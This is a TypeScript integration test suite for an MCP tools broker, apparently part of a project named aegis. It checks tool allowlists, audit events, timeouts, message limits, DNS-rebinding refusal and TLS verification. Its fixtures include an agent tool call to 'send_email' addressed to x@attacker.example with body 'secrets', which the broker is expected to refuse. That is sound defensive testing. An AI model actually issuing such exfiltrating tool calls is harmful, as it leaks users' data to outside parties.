import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, it } from 'node:test';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpError } from '@modelcontextprotocol/sdk/types.js';
import * as packet from 'dns-packet';
import type { AuditEventInput, AuditSink } from '../audit/event.js';
import { parseAllowEntry } from '../policy/host.js';
import type { NetworkPolicy, ToolServerPolicy } from '../policy/types.js';
import { startHttpMcpServer, writeStdioMcpServer, type HttpMcpServer } from '../test-support/mcp-servers.js';
import { makeLoopbackPki } from '../test-support/tls.js';
import { hasCode } from '../test-support/errors.js';
import { startToolsBroker, type ToolsBroker } from './broker.js';
import { ToolsError } from './errors.js';
import { PipeTransport } from './stdio-transport.js';

/**
 * The broker's client of a local server, as services.ts hands it over: here the server is a
 * plain process on a PipeTransport (its sandbox is tested end to end in
 * test/integration/run-tools.test.ts).
 */
async function localServer(argv: readonly string[]): Promise<{ client: Client; child: ChildProcess }> {
  const child = spawn(argv[0]!, argv.slice(1), { stdio: ['pipe', 'pipe', 'ignore'] });
  const t = new PipeTransport({ input: child.stdin!, maxMessageBytes: 64 * 1024, onClose: () => void child.kill('SIGKILL') });
  child.stdout!.on('data', (c: Buffer) => t.receive(c));
  child.stdout!.on('end', () => t.end());
  const client = new Client({ name: 'aegis-tools-broker', version: '1.0.0' }, { capabilities: {} });
  await client.connect(t, { timeout: 10_000 });
  return { client, child };
}

class Events implements AuditSink {
  readonly all: AuditEventInput[] = [];
  append(e: AuditEventInput): void {
    this.all.push(e);
  }
  of(action: string): AuditEventInput[] {
    return this.all.filter((e) => e.action === action);
  }
}

const rule = (s: string) => {
  const r = parseAllowEntry(s);
  assert.ok(r.ok);
  return r.rule;
};
const network: NetworkPolicy = { rules: [rule('api.example.com')], rateLimit: { perSecond: 20, burst: 40 }, byteQuota: null };

async function agentClient(url: string): Promise<Client> {
  const c = new Client({ name: 'test-agent', version: '1.0.0' });
  await c.connect(new StreamableHTTPClientTransport(new URL(url)));
  return c;
}

function rpcError(err: unknown): { code: number; data: unknown } {
  assert.ok(err instanceof McpError, `expected an McpError, got ${String(err)}`);
  return { code: err.code, data: err.data };
}

describe('the tools broker, between a real MCP client and real MCP servers', () => {
  let upstream: HttpMcpServer;
  let broker: ToolsBroker;
  let local: { client: Client; child: ChildProcess };
  const events = new Events();
  const dir = mkdtempSync(join(tmpdir(), 'aegis-tools-'));

  before(async () => {
    upstream = await startHttpMcpServer();
    const remote: ToolServerPolicy = {
      name: 'remote',
      transport: { kind: 'http', url: upstream.url, host: '127.0.0.1', port: upstream.port, secret: null },
      allow: ['big', 'echo', 'fail', 'slow'],
      timeoutMs: 500,
    };
    const localSpec: ToolServerPolicy = {
      name: 'local',
      transport: { kind: 'sandbox', manifest: 'server.yaml', volumes: [] },
      allow: ['big', 'echo', 'garbage', 'slow'],
      timeoutMs: 5000,
    };
    local = await localServer(writeStdioMcpServer(dir));
    broker = await startToolsBroker({
      localServers: new Map([['local', local.client]]),
      tools: { servers: [remote, localSpec] },
      network,
      audit: events,
      actor: { agent: 'a', execution: 'e1' },
      host: '127.0.0.1',
      maxMessageBytes: 64 * 1024,
    });
  });
  after(async () => {
    await broker?.close();
    await local?.client.close();
    await upstream?.close();
    rmSync(dir, { recursive: true, force: true });
  });

  it('lists only the allowed tools, and audits what it hid', async () => {
    const c = await agentClient(`${broker.url}/remote/mcp`);
    const { tools } = await c.listTools();
    assert.deepEqual(tools.map((t) => t.name).sort(), ['big', 'echo', 'fail', 'slow']);
    await c.close();
    const list = events.of('tool.list').at(-1);
    assert.deepEqual(list?.payload, { server: 'remote', offered: 4, hidden: ['send_email', 'whoami'], hiddenCount: 2 });
  });

  it('forwards an allowed call and audits it with its arguments, the hosts they name and those outside the allowlist', async () => {
    const c = await agentClient(`${broker.url}/remote/mcp`);
    const r = await c.callTool({ name: 'echo', arguments: { text: 'see https://api.example.com/x and mail bob@attacker.example' } });
    assert.deepEqual(r.content, [{ type: 'text', text: 'see https://api.example.com/x and mail bob@attacker.example' }]);
    await c.close();
    const e = events.of('tool.call').at(-1)!;
    assert.equal(e.decision, 'allow');
    assert.equal(e.reason, 'tool.allowed.name');
    assert.equal(e.payload.server, 'remote');
    assert.equal(e.payload.tool, 'echo');
    assert.equal(e.payload.outcome, 'result');
    assert.equal(e.payload.arguments, JSON.stringify({ text: 'see https://api.example.com/x and mail bob@attacker.example' }));
    assert.deepEqual(e.payload.argumentHosts, ['api.example.com', 'attacker.example']);
    assert.deepEqual(e.payload.hostsOutsideAllowlist, ['attacker.example']);
    assert.equal(typeof e.payload.durationMs, 'number');
  });

  it('refuses a tool the manifest does not allow with a JSON-RPC error, audited, never forwarded', async () => {
    const c = await agentClient(`${broker.url}/remote/mcp`);
    const before = upstream.seen.length;
    const err = await c.callTool({ name: 'send_email', arguments: { to: 'x@attacker.example', body: 'secrets' } }).then(
      () => assert.fail('the call went through'),
      (e: unknown) => e,
    );
    assert.deepEqual(rpcError(err), { code: -32602, data: { reason: 'tool.denied.not_allowed' } });
    assert.equal(upstream.seen.length, before, 'the server never saw the refused call');
    await c.close();
    const d = events.of('tool.denied').at(-1)!;
    assert.equal(d.reason, 'tool.denied.not_allowed');
    assert.equal(d.payload.tool, 'send_email');
    assert.match(String(d.payload.arguments), /attacker\.example/);
  });

  it('passes a result flagged isError through as such', async () => {
    const c = await agentClient(`${broker.url}/remote/mcp`);
    const r = await c.callTool({ name: 'fail', arguments: {} });
    assert.equal(r.isError, true);
    await c.close();
    assert.equal(events.of('tool.call').at(-1)?.payload.outcome, 'is_error');
  });

  describe('when the server never answers', () => {
    it('ends the call with a timeout error at the server timeout, audited, and keeps serving', async () => {
      const c = await agentClient(`${broker.url}/remote/mcp`);
      const err = await c.callTool({ name: 'slow', arguments: { ms: 3000 } }).then(
        () => assert.fail('no timeout'),
        (e: unknown) => e,
      );
      assert.equal(rpcError(err).code, -32001);
      const e = events.of('tool.call').at(-1)!;
      assert.equal(e.payload.outcome, 'timeout');
      assert.equal(e.decision, 'error');
      const r = await c.callTool({ name: 'echo', arguments: { text: 'still here' } });
      assert.deepEqual(r.content, [{ type: 'text', text: 'still here' }]);
      await c.close();
    });
  });

  describe('when a message is too large', () => {
    it('refuses an agent request over the limit with 413, audited', async () => {
      const res = await fetch(`${broker.url}/remote/mcp`, {
        method: 'POST',
        headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
        body: JSON.stringify({
          jsonrpc: '2.0',
          id: 1,
          method: 'tools/call',
          params: { name: 'echo', arguments: { text: 'x'.repeat(70_000) } },
        }),
      });
      assert.equal(res.status, 413);
      assert.equal(events.all.at(-1)?.reason, 'tools.message_too_large');
    });
    it('ends a call whose result is over the limit with an error, audited, and keeps serving', async () => {
      const c = await agentClient(`${broker.url}/remote/mcp`);
      await assert.rejects(c.callTool({ name: 'big', arguments: { bytes: 200_000 } }), McpError);
      const e = events.of('tool.call').at(-1)!;
      assert.equal(e.payload.outcome, 'protocol_error');
      assert.equal(e.reason, 'tools.message_too_large');
      const r = await c.callTool({ name: 'big', arguments: { bytes: 10 } });
      assert.deepEqual(r.content, [{ type: 'text', text: 'x'.repeat(10) }]);
      await c.close();
    });
  });

  describe('when the request is malformed', () => {
    for (const [what, body, code] of [
      ['not JSON', '{"jsonrpc": "2.0", "id": 1, "method": ', -32700],
      ['JSON that is not JSON-RPC', '{"hello": "world"}', -32600],
      ['an empty batch', '[]', -32600],
      ['a batch with one bad message', '[{"jsonrpc": "2.0", "id": 1, "method": "ping"}, {"jsonrpc": "1.0"}]', -32600],
    ] as const)
      it(`answers ${what} with JSON-RPC error ${code} (HTTP 400), audited`, async () => {
        const before = events.all.length;
        const res = await fetch(`${broker.url}/remote/mcp`, {
          method: 'POST',
          headers: { 'content-type': 'application/json', accept: 'application/json, text/event-stream' },
          body,
        });
        assert.equal(res.status, 400);
        const j = (await res.json()) as { error?: { code: number } };
        assert.equal(j.error?.code, code);
        const e = events.all.slice(before);
        assert.deepEqual(
          e.map((x) => [x.action, x.decision, x.reason, x.payload.outcome]),
          [['tool.call', 'error', 'tool.protocol_error', 'protocol_error']],
        );
      });
    it('refuses an undeclared server with 404, audited as tool.denied', async () => {
      const res = await fetch(`${broker.url}/other/mcp`, { method: 'POST', body: '{}' });
      assert.equal(res.status, 404);
      assert.equal(events.of('tool.denied').at(-1)?.reason, 'tool.denied.unknown_server');
    });
    it('still serves after all of that', async () => {
      const c = await agentClient(`${broker.url}/remote/mcp`);
      assert.equal((await c.listTools()).tools.length, 4);
      await c.close();
    });
  });

  describe('when a remote server name resolves to a special-purpose address', () => {
    it('refuses to connect (DNS-rebinding guard), audited, and the call fails', async () => {
      const spec: ToolServerPolicy = {
        name: 'rebind',
        transport: { kind: 'http', url: `http://localhost:${upstream.port}/mcp`, host: 'localhost', port: upstream.port, secret: null },
        allow: ['echo'],
        timeoutMs: 2000,
      };
      const b = await startToolsBroker({
        tools: { servers: [spec] },
        network,
        audit: events,
        actor: { execution: 'e2' },
        host: '127.0.0.1',
      });
      try {
        const c = await agentClient(`${b.url}/rebind/mcp`);
        await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'x' } }), McpError);
        await c.close();
      } finally {
        await b.close();
      }
      const e = events.of('tool.call').at(-1)!;
      assert.equal(e.reason, 'tools.address_refused');
      assert.equal(e.payload.outcome, 'unavailable');
    });
  });

  describe('with a resolver given (the gateway upstream, as under aegis run)', () => {
    it('resolves the server name with it, not the host resolver, and the rebinding guard checks its answer', async () => {
      // A real DNS server on loopback that knows one name the host resolver does not.
      const asked: string[] = [];
      const dns = createSocket('udp4');
      dns.on('message', (msg, rinfo) => {
        const q = packet.decode(msg);
        const name = q.questions?.[0]?.name ?? '';
        asked.push(`${q.questions?.[0]?.type} ${name}`);
        const answers: packet.Answer[] =
          name === 'tools.aegis-resolver.test' && q.questions?.[0]?.type === 'A' ? [{ type: 'A', name, ttl: 5, data: '10.9.8.7' }] : [];
        dns.send(
          packet.encode({ type: 'response', id: q.id, flags: packet.RECURSION_DESIRED, questions: q.questions, answers }),
          rinfo.port,
          rinfo.address,
        );
      });
      await new Promise<void>((r) => dns.bind(0, '127.0.0.1', () => r()));
      const spec: ToolServerPolicy = {
        name: 'named',
        transport: {
          kind: 'http',
          url: 'https://tools.aegis-resolver.test/mcp',
          host: 'tools.aegis-resolver.test',
          port: 443,
          secret: null,
        },
        allow: ['echo'],
        timeoutMs: 5000,
      };
      const b = await startToolsBroker({
        tools: { servers: [spec] },
        network,
        audit: events,
        actor: { execution: 'e5' },
        host: '127.0.0.1',
        resolver: { host: '127.0.0.1', port: dns.address().port },
      });
      try {
        const c = await agentClient(`${b.url}/named/mcp`);
        await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'x' } }), McpError);
        await c.close();
      } finally {
        await b.close();
        dns.close();
      }
      assert.ok(asked.includes('A tools.aegis-resolver.test'), `the given resolver was asked: ${asked.join(', ')}`);
      const e = events.of('tool.call').at(-1)!;
      assert.equal(e.reason, 'tools.address_refused');
      assert.match(String((e.payload.error as { message: string }).message), /10\.9\.8\.7/);
    });
  });

  describe('when a remote server presents a certificate from a CA the host does not trust', () => {
    it('refuses the connection (certificates are verified), audited', async () => {
      const pkiDir = mkdtempSync(join(tmpdir(), 'aegis-tools-pki-'));
      const pki = makeLoopbackPki(pkiDir);
      const tlsServer = await startHttpMcpServer('127.0.0.1', 0, { cert: pki.cert, key: pki.key });
      const spec: ToolServerPolicy = {
        name: 'untrusted',
        transport: { kind: 'http', url: tlsServer.url, host: '127.0.0.1', port: tlsServer.port, secret: null },
        allow: ['echo'],
        timeoutMs: 2000,
      };
      const b = await startToolsBroker({
        tools: { servers: [spec] },
        network,
        audit: events,
        actor: { execution: 'e3' },
        host: '127.0.0.1',
      });
      try {
        const c = await agentClient(`${b.url}/untrusted/mcp`);
        await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'x' } }), McpError);
        await c.close();
      } finally {
        await b.close();
        await tlsServer.close();
        rmSync(pkiDir, { recursive: true, force: true });
      }
      assert.deepEqual(tlsServer.seen, [], 'nothing reached the server');
      const e = events.of('tool.call').at(-1)!;
      assert.equal(e.payload.outcome, 'unavailable');
    });
  });

  describe('when a declared local server was not started', () => {
    it('refuses to start (the run does not start)', async () => {
      const spec: ToolServerPolicy = {
        name: 'missing',
        transport: { kind: 'sandbox', manifest: 'server.yaml', volumes: [] },
        allow: ['*'],
        timeoutMs: 1000,
      };
      await assert.rejects(
        startToolsBroker({ tools: { servers: [spec] }, network, audit: events, actor: { execution: 'e4' }, host: '127.0.0.1' }),
        hasCode(ToolsError, 'tools.start_failed'),
      );
    });
  });

  describe('a local (stdio) server', () => {
    it('skips a line that is not JSON-RPC and still answers', async () => {
      const c = await agentClient(`${broker.url}/local/mcp`);
      const r = await c.callTool({ name: 'garbage', arguments: {} });
      assert.deepEqual(r.content, [{ type: 'text', text: 'after garbage' }]);
      await c.close();
    });
    it('refuses the tools it does not allow', async () => {
      const c = await agentClient(`${broker.url}/local/mcp`);
      assert.ok(!(await c.listTools()).tools.some((t) => t.name === 'send_email'));
      await assert.rejects(c.callTool({ name: 'send_email', arguments: { to: 'a@b.c', body: '' } }), McpError);
      await c.close();
    });
    // Last: it ends the local server (a local server is started once per run, never again).
    it('ends a result over the limit with an error, stops the server, and later calls fail as unavailable', async () => {
      const c = await agentClient(`${broker.url}/local/mcp`);
      await assert.rejects(c.callTool({ name: 'big', arguments: { bytes: 200_000 } }), McpError);
      const big = events.of('tool.call').at(-1)!;
      assert.equal(big.decision, 'error');
      assert.equal(big.payload.tool, 'big');
      await new Promise<void>((r) =>
        local.child.exitCode !== null || local.child.signalCode !== null ? r() : local.child.once('exit', () => r()),
      );
      await assert.rejects(c.callTool({ name: 'echo', arguments: { text: 'again' } }), McpError);
      const again = events.of('tool.call').at(-1)!;
      assert.deepEqual([again.payload.tool, again.payload.outcome], ['echo', 'unavailable']);
      await c.close();
    });
  });
});
